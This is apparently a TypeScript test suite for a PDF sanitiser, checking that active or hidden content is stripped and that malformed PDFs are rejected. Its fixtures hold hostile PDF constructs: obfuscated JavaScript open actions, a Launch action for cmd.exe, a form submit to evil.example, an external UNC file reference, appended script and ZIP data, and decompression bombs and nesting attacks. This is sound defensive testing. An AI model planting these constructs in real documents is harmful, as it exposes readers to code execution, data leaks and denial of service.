import { readFileSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import {
  ACTIVE,
  loadedPdf,
  namesIn,
  packedOf,
  PDF_TEXT,
  pdfOf,
  protectedPdf,
  rebuilt,
  streamOf,
  textOfPdf,
  type PdfParts,
} from '../../../../test/pdf-files.ts';
import { renderPdf } from '../render-pdf.ts';
import { PDF_LIMITS } from './limits.ts';

const MB = 1024 * 1024;

async function expectClean(bytes: Buffer): Promise<Buffer> {
  const clean = await rebuilt(bytes);
  expect(namesIn(clean).filter((name) => ACTIVE.test(name))).toEqual([]);
  return clean;
}

describe('what acts, asks or hides', () => {
  const js = '<</S/J#61vaScript/J#53(app.alert\\(1\\))>>';
  const submit = '<</S/Submit#46orm/F(https://evil.example)>>';
  it.each<[string, PdfParts]>([
    ['runs when it is opened, by a name written otherwise', { catalog: `/OpenAction ${js}` }],
    ['runs when a page is seen', { page: `/AA<</O ${js}>>` }],
    ['runs by its tree of names', { catalog: `/Names<</JavaScript<</Names[(a) ${js}]>>>>` }],
    ['starts a program', { page: '/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>]' }],
    ['sends a form', { page: `/Annots[<</Subtype/Widget/FT/Btn/Rect[0 0 9 9]/A ${submit}>>]` }],
    ['asks by XFA', { catalog: '/AcroForm<</Fields[]/XFA(<xdp/>)>>' }],
    ['carries a file', { catalog: '/Names<</EmbeddedFiles<</Names[(a)<</EF<</F 10 0 R>>>>]>>>>' }],
    ['reads a file from elsewhere', { resources: '/XObject<</X 10 0 R>>', objects: EXTERNAL }],
    ['says who made it', { catalog: '/Metadata 10 0 R' }],
  ])('is left out of what %s', async (_what, parts) => {
    const clean = await expectClean(pdfOf(parts));
    expect(await textOfPdf(clean)).toBe(PDF_TEXT);
  });

  it('is left out of what was changed after it was made', async () => {
    const changed = '1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(x)>>>>endobj\n';
    const bytes = Buffer.concat([pdfOf(), Buffer.from(`${changed}trailer<</Root 1 0 R>>\n%%EOF\n`)]);
    expect(await textOfPdf(await expectClean(bytes))).toBe(PDF_TEXT);
  });

  it('is left out of packed objects, forms, scripts and attachments alike', async () => {
    const bytes = await loadedPdf();
    expect(namesIn(bytes)).toContain('/ObjStm');
    expect(await textOfPdf(await expectClean(bytes))).toBe(PDF_TEXT);
  });

  it('is left out behind the end and between objects', async () => {
    const hidden = Buffer.from('<script>alert(1)</script>PK\u0003\u0004');
    const clean = await expectClean(Buffer.concat([pdfOf({ objects: hidden.toString() }), hidden]));
    expect(clean.toString('latin1')).not.toMatch(/script|PK/);
  });
});

const EXTERNAL =
  '10 0 obj<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/F(\\\\\\\\evil\\\\x)/OPI<<>>/Length 0>>stream\n\nendstream endobj';
const image = (number: number, entries: string, bytes: Buffer) =>
  streamOf(
    number,
    `/Type/XObject/Subtype/Image/Width 60/Height 40/ColorSpace/DeviceRGB/BitsPerComponent 8${entries}`,
    bytes,
  );

describe('what is refused', () => {
  const withX = (x: Buffer): Buffer => Buffer.concat([pdfOf({ resources: '/XObject<</X 10 0 R>>' }), x]);
  const bomb = deflateSync(Buffer.alloc(PDF_LIMITS.opened + MB));
  const many = Array.from({ length: 250_000 }, (_, index) => `${index + 10} 0 obj null endobj`);
  it.each<[string, string, () => Buffer | Promise<Buffer>]>([
    ['a password protects', 'protected', protectedPdf],
    ['has 250,000 objects', 'heavy', () => pdfOf({ objects: many.join('\n') })],
    ['has too many pages', 'heavy', () => pdfOf({ kids: '4 0 R', objects: tree(PDF_LIMITS.pages + 1) })],
    [
      'opens to more than it may',
      'heavy',
      () => pdfOf({ contents: streamOf(6, '/Filter/FlateDecode', bomb) }),
    ],
    [
      'is packed twice',
      'heavy',
      () => pdfOf({ contents: streamOf(6, '/Filter[/Fl/Fl]', deflateSync(bomb)) }),
    ],
    ['draws a huge picture', 'heavy', () => withX(image(10, '/Width 90000/Height 90000', Buffer.alloc(9)))],
    ['goes round in circles', 'unreadable', () => pdfOf({ kids: '2 0 R' })],
    ['has no page', 'unreadable', () => pdfOf({ kids: '' })],
    ['nests without end', 'unreadable', () => pdfOf({ resources: `/XObject ${'['.repeat(200_000)}` })],
    ['nests deeply', 'unreadable', () => pdfOf({ resources: `/ColorSpace<</C ${deep(400)}>>` })],
    ['is a program', 'unreadable', () => withX(streamOf(10, '/Type/XObject/Subtype/PS', Buffer.from('run')))],
    ['is in JBIG2', 'unreadable', () => withX(image(10, '/Filter/JBIG2Decode', Buffer.alloc(9)))],
    [
      'calls a picture what is none',
      'unreadable',
      () => withX(image(10, '/Filter/DCTDecode', Buffer.alloc(9))),
    ],
    ['is no PDF', 'unreadable', () => Buffer.from('%PDF-1.7 … %%EOF')],
  ])('%s', async (_what, fault, bytes) => {
    await expect(rebuilt(await bytes())).rejects.toMatchObject({ fault });
  });
});

const deep = (levels: number) => `${'['.repeat(levels)}/DeviceRGB${']'.repeat(levels)}`;
const tree = (pages: number) => {
  const numbers = Array.from({ length: pages }, (_, index) => index + 10);
  const leaves = numbers.map((number) => `${number} 0 obj<</Type/Page/Parent 4 0 R>>endobj`);
  return `4 0 obj<</Type/Pages/Kids[${numbers.map((one) => `${one} 0 R`).join(' ')}]>>endobj ${leaves.join('\n')}`;
};

describe('what is as it should be', () => {
  it('reads the same as Chromium printed it, without its link', async () => {
    const bytes = readFileSync(new URL('../../../../test/chromium-print.pdf', import.meta.url));
    const clean = await expectClean(bytes);
    expect(await textOfPdf(bytes)).toContain('Cupom fiscal às três');
    expect(await textOfPdf(clean)).toBe(await textOfPdf(bytes));
  });

  it('reads the same as PDFKit drew it, and is the same bytes each time', async () => {
    const bytes = await renderPdf({
      title: 'Regulamento às três',
      language: 'pt-BR',
      createdAt: new Date('2026-11-21T12:00:00Z'),
      blocks: [
        { kind: 'paragraph', text: 'Uma frase que se repete. '.repeat(400) },
        { kind: 'table', header: ['Prêmio'], rows: [['Viagem']] },
      ],
    });
    const clean = await expectClean(bytes);
    expect(await textOfPdf(clean)).toBe(await textOfPdf(bytes));
    expect(await rebuilt(bytes)).toEqual(clean);
    expect((await PDFDocument.load(clean)).catalog.toString()).toContain('/Lang (pt-BR)');
  });

  it('keeps the points of a photo, not where it was taken', async () => {
    const photo = await sharp({ create: { width: 60, height: 40, channels: 3, background: '#7C3AED' } })
      .withExif({ IFD0: { Copyright: 'segredo' } })
      .jpeg()
      .toBuffer();
    const bytes = Buffer.concat([
      pdfOf({ resources: '/XObject<</X 10 0 R>>' }),
      image(10, '/Filter/DCTDecode', Buffer.concat([photo, Buffer.from('escondido')])),
    ]);
    expect(bytes.toString('latin1')).toContain('segredo');
    const clean = await expectClean(bytes);
    expect(clean.toString('latin1')).not.toMatch(/segredo|escondido/);
    const start = clean.indexOf(Buffer.from([0xff, 0xd8, 0xff]));
    const kept = clean.subarray(start, clean.indexOf('\nendstream', start));
    expect(await sharp(kept).raw().toBuffer()).toEqual(await sharp(photo).raw().toBuffer());
  });

  it('takes content in pieces, packed in every way, of pages that inherit', async () => {
    const hex = Buffer.from(`${Buffer.from(`BT /F1 12 Tf 20 100 Td (${PDF_TEXT}`).toString('hex')}>`);
    const bytes = Buffer.concat([
      pdfOf({
        contents: Buffer.alloc(0),
        objects: '6 0 obj[10 0 R 11 0 R]endobj',
      }),
      streamOf(10, '/Filter/ASCIIHexDecode', hex),
      packedOf(11, '', Buffer.from(') Tj ET')),
    ]);
    expect(await textOfPdf(await expectClean(bytes))).toBe(PDF_TEXT);
  });
});
